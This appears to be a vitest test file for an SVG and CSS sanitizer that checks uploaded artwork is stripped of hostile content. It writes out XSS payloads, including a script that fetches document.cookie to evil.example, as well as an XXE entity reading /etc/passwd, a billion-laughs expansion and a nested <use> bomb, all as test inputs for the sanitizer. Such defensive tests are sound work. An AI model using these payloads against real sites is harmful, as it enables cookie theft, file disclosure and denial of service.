import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { svgUseBomb } from '../../../tests/support/attack-payloads'
import { MAX_DRAWN_ELEMENTS, sanitizeCss, sanitizeSvg, SvgRejectedError } from './svg-sanitizer'

const svg = (inner: string, attributes = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" viewBox="0 0 100 100"${attributes}>${inner}</svg>`

const RED_SQUARE = '<rect x="10" y="10" width="80" height="80" fill="#c8102e"/>'

function rejected(source: string): SvgRejectedError {
  try {
    sanitizeSvg(source)
  } catch (error) {
    expect(error).toBeInstanceOf(SvgRejectedError)
    return error as SvgRejectedError
  }
  throw new Error('the file was not rejected')
}

async function centrePixel(clean: string): Promise<number[]> {
  const raw = await sharp(Buffer.from(clean)).extract({ left: 50, top: 50, width: 1, height: 1 }).ensureAlpha().raw().toBuffer()
  return [...raw]
}

describe('sanitizing uploaded SVG artwork', () => {
  test('keeps the drawing of a harmless file: shapes, gradients, local references, text and style sheets', async () => {
    const source = svg(
      `<defs><linearGradient id="g"><stop offset="0" stop-color="#000"/><stop offset="1" stop-color="#fff"/></linearGradient>
       <style>.mark { fill: #c8102e; } .soft { opacity: 0.5 }</style></defs>
       <rect class="mark" x="10" y="10" width="80" height="80"/><use xlink:href="#g"/><circle cx="5" cy="5" r="2" fill="url(#g)"/>
       <text x="50" y="95" font-family="sans-serif">A &amp; B</text>`,
    )
    const { svg: clean, removed } = sanitizeSvg(source)
    expect(removed).toEqual([])
    expect(clean).toContain('<linearGradient id="g">')
    expect(clean).toContain('fill="url(#g)"')
    expect(clean).toContain('xlink:href="#g"')
    expect(clean).toContain('.mark { fill: #c8102e; }')
    expect(clean).toContain('>A &amp; B</text>')
    expect(await centrePixel(clean)).toEqual([0xc8, 0x10, 0x2e, 255])
  })

  test.each([
    ['a script element', `<script>alert(document.cookie)</script>`, /script|alert/i],
    ['a script in CDATA', `<script><![CDATA[fetch('https://evil.example/?c='+document.cookie)]]></script>`, /script|fetch|evil/i],
    ['an event handler', `<rect x="0" y="0" width="5" height="5" onclick="alert(1)" onmouseover="alert(2)"/>`, /onclick|onmouseover|alert/i],
    ['foreignObject with HTML', `<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>`, /foreignObject|iframe|evil/i],
    ['an external image', `<image href="https://evil.example/track.png" width="10" height="10"/>`, /evil/],
    ['a local file', `<image xlink:href="file:///etc/passwd" width="10" height="10"/>`, /passwd|file:/],
    ['an external use', `<use href="https://evil.example/sprite.svg#icon"/>`, /evil/],
    ['a javascript link', `<a xlink:href="javascript:alert(1)"><circle cx="5" cy="5" r="2"/></a>`, /javascript|alert|<a/i],
    ['an HTML data URL', `<image href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="1" height="1"/>`, /text\/html/],
    ['an SVG data URL', `<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="1" height="1"/>`, /svg\+xml/],
    ['a style import', `<style>@import url('https://evil.example/x.css'); circle { fill: red }</style>`, /@import|evil/],
    ['an external url() in a style sheet', `<style>rect { fill: url(https://evil.example/p.svg#p) } circle { fill: blue }</style>`, /evil/],
    ['an external url() in an attribute', `<rect width="5" height="5" filter="url(https://evil.example/f.svg#f)"/>`, /evil/],
    ['an escaped url in a style attribute', `<rect width="5" height="5" style="fill: u\\72l(https://evil.example/x)"/>`, /evil/],
    ['a binding in a style attribute', `<rect width="5" height="5" style="-moz-binding: url(https://evil.example/x.xml#b); fill: red"/>`, /binding|evil/],
    ['animation that rewrites a link', `<a><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/><rect width="5" height="5"/></a>`, /set|animate|javascript/i],
    ['an iframe', `<iframe src="https://evil.example"/>`, /iframe|evil/],
  ])('removes %s', async (_what, payload, forbidden) => {
    const { svg: clean, removed } = sanitizeSvg(svg(RED_SQUARE + payload))
    expect(clean).not.toMatch(forbidden)
    expect(removed.length).toBeGreaterThan(0)
    // What is left still draws, and nothing in it refers outside the file.
    expect(await centrePixel(clean)).toEqual([0xc8, 0x10, 0x2e, 255])
    expect(clean.replace(/ xmlns(:xlink)?="[^"]*"/g, '')).not.toMatch(/https?:|file:|javascript:/i)
  })

  test('refuses a DOCTYPE with entities (XXE and the billion laughs) and undefined entities', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>`
    expect(rejected(xxe).message).toMatch(/DOCTYPE/)
    const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>`
    expect(rejected(laughs).message).toMatch(/DOCTYPE/)
    expect(rejected(svg('<text>&nbsp;</text>')).message).toMatch(/entity/)
  })

  test('refuses files that are not SVG or not well-formed XML', () => {
    expect(rejected('<html><body>hi</body></html>').message).toMatch(/not an SVG/)
    expect(rejected(svg('<rect width="5">')).message).toMatch(/could not be read/)
    expect(rejected(svg('<rect width="5" width="6"/>')).message).toMatch(/twice/)
    expect(rejected('<?xml-stylesheet href="https://evil.example/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>').message).toMatch(/processing instruction/)
    expect(rejected(`${svg(RED_SQUARE)}<svg/>`).message).toMatch(/one root/)
    expect(rejected(`<svg>${'<g>'.repeat(100)}${'</g>'.repeat(100)}</svg>`).message).toMatch(/nests/)
  })

  test('keeps embedded PNG images, the only data addresses allowed', () => {
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=='
    const { svg: clean } = sanitizeSvg(svg(`<image width="10" height="10" href="data:image/png;base64,${png}"/>`))
    expect(clean).toContain(`href="data:image/png;base64,${png}"`)
  })
})

describe('sanitizing CSS', () => {
  test('drops imports, font loading and foreign urls but keeps local references and balanced rules', () => {
    const css = sanitizeCss(`@import "x.css"; @font-face { src: url(https://f.example/a.woff) } .a { fill: url(#g) } .b { fill: url(https://e.example/x) } .c { stroke: red }`)
    expect(css).not.toMatch(/import|font-face|https/)
    expect(css).toContain('.a { fill: url(#g) }')
    expect(css).toContain('.c { stroke: red }')
    expect(css.split('{').length).toBe(css.split('}').length)
  })
})

describe('bounding what references expand to (issue 13)', () => {
  test('refuses the nine-level <use> bomb (ten copies a level) with a message saying what to do', () => {
    const message = rejected(svgUseBomb()).message
    expect(message).toBe(
      `The SVG file draws more than ${MAX_DRAWN_ELEMENTS.toLocaleString('en-US')} shapes once its repeated parts (<use> and url(#…) references) are expanded. Flatten or simplify the artwork and upload it again.`,
    )
  })

  test('counts every copy: three levels of ten (a thousand squares) pass, five levels (a hundred thousand) do not', () => {
    expect(sanitizeSvg(svgUseBomb({ levels: 3 })).svg).toContain('<use href="#l2"/>')
    expect(rejected(svgUseBomb({ levels: 5 })).message).toMatch(/draws more than 20,000 shapes/)
  })

  test('keeps a normal logo that repeats a symbol with a few <use> and paints with gradients from a style sheet', async () => {
    const logo = svg(
      `<defs><symbol id="star"><polygon points="5,0 6,4 10,4 7,6 8,10 5,7 2,10 3,6 0,4 4,4"/></symbol>
       <linearGradient id="SVGID_1_"><stop offset="0" stop-color="#c8102e"/><stop offset="1" stop-color="#c8102e"/></linearGradient>
       <linearGradient id="SVGID_2_" xlink:href="#SVGID_1_"/>
       <style>.st0 { fill: url(#SVGID_1_); } .st1 { fill: url(#SVGID_2_) }</style></defs>
       <rect class="st0" x="10" y="10" width="80" height="80"/>
       <use xlink:href="#star" x="0" y="0"/><use xlink:href="#star" x="20" y="0"/><use xlink:href="#star" x="40" y="0"/><use href="#star" x="60" y="0"/>
       <circle class="st1" cx="90" cy="90" r="5"/>`,
    )
    const { svg: clean } = sanitizeSvg(logo)
    expect(clean.match(/<use /g)).toHaveLength(4)
    expect(await centrePixel(clean)).toEqual([0xc8, 0x10, 0x2e, 255])
  })

  test('refuses references that loop, directly or through a pattern', () => {
    expect(rejected(svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')).message).toMatch(/references that loop/)
    expect(rejected(svg('<defs><pattern id="p" width="5" height="5"><rect width="5" height="5" fill="url(#p)"/></pattern></defs>')).message).toMatch(/references that loop/)
  })

  test('counts what a pattern, a style-sheet rule or an id given twice draws, wherever it is used', () => {
    const squares = '<rect width="1" height="1"/>'.repeat(2000)
    const tenFills = '<rect width="5" height="5" fill="url(#p)"/>'.repeat(10)
    expect(rejected(svg(`<defs><pattern id="p" width="5" height="5">${squares}</pattern></defs>${tenFills}`)).message).toMatch(/draws more than/)
    const tenClassed = '<rect class="big" width="5" height="5"/>'.repeat(10)
    expect(rejected(svg(`<defs><pattern id="p" width="5" height="5">${squares}</pattern><style>.big { fill: url(#p) }</style></defs>${tenClassed}`)).message).toMatch(/draws more than/)
    const twice = `<g id="x"/><g id="x">${squares}</g>${'<use href="#x"/>'.repeat(10)}`
    expect(rejected(svg(twice)).message).toMatch(/draws more than/)
  })
})
